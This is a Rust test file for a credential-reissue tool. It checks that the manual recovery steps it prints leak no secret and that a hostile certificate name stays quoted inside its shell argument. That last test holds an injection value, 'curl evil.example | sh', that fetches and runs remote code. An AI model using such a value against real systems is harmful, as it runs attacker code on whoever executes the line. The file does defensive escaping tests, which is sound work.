//! What a person is told to do when a target is stuck: exact lines, and no secret in them.

use crate::support::rehearsal::{Mishap, Rehearsal, in_virtual_time};
use reissue::connector::registry;
use reissue::domain::target::TargetState;
use reissue::lab::{Owner, SecretSpec};
use std::sync::Arc;

fn saga(name: &str) -> String {
    std::fs::read_to_string(format!("tests/playbooks/saga/{name}.yaml")).unwrap()
}

/// What stands on the sheet when a write of that number is refused.
fn sheet(name: &str, refused: usize) -> String {
    in_virtual_time(async {
        let mut rehearsal = Rehearsal::new(&saga(name));
        rehearsal.go_wrong(refused, Mishap::Refused);
        let (plan, outcome) = rehearsal.run_and_keep_the_plan().await;
        assert_eq!(outcome.stuck, 1, "{outcome:?}");
        let target = plan.changes().next().unwrap();
        let state = rehearsal.recovered_state(&plan);
        let lines = registry::kind(&target.kind).unwrap().by_hand(&state, &plan.header);
        for (_, leaked) in &rehearsal.scene.leaked {
            assert!(!lines.iter().any(|l| l.contains(leaked.as_str())), "a leaked value");
        }
        lines.join("\n")
    })
}

#[test]
fn a_secret_that_was_taken_away_and_not_replaced() {
    insta::assert_snapshot!(sheet("app-secret-contain", 6));
}

#[test]
fn a_certificate_that_was_taken_away_and_not_replaced() {
    insta::assert_snapshot!(sheet("app-certificate-contain", 6));
}

#[test]
fn sessions_that_were_not_ended() {
    insta::assert_snapshot!(sheet("user-password-blocked", 5));
}

/// Nothing is stuck here yet: the sheet is pure, and can be asked for at any time.
#[test]
fn a_switch_before_it_is_set() {
    in_virtual_time(async {
        let rehearsal = Rehearsal::new(&saga("app-disable"));
        let plan = rehearsal.plan().await.unwrap();
        let target = plan.changes().next().unwrap();
        let state = TargetState::new(Arc::new(target.clone()));
        let lines = registry::kind(&target.kind).unwrap().by_hand(&state, &plan.header);
        insta::assert_snapshot!(lines.join("\n"));
    });
}

/// A name in the directory is somebody else's text: it must not end the shell's argument.
#[test]
fn a_hostile_name_stays_inside_its_argument() {
    in_virtual_time(async {
        let rehearsal = Rehearsal::with_scene(&saga("app-certificate"), |scene| {
            let app = "8a1d0000-0000-4000-8000-000000000001".parse().unwrap();
            scene.lab.add_secret(&app, SecretSpec::default());
            let made =
                scene.lab.generate_certificate("CN=x", std::time::Duration::from_secs(864_000)).unwrap();
            let name = "x'; curl evil.example | sh; '";
            scene.lab.add_certificate(&app, Owner::Application, &made.cert_der, Some(name));
        });
        let plan = rehearsal.plan().await.unwrap();
        let target = plan.changes().next().unwrap();
        let state = TargetState::new(Arc::new(target.clone()));
        let lines = registry::kind(&target.kind).unwrap().by_hand(&state, &plan.header);
        let line = lines.iter().find(|l| l.contains("curl")).unwrap();
        assert!(line.contains(r"x'\''; curl evil.example | sh; '\''"), "{line}");
    });
}
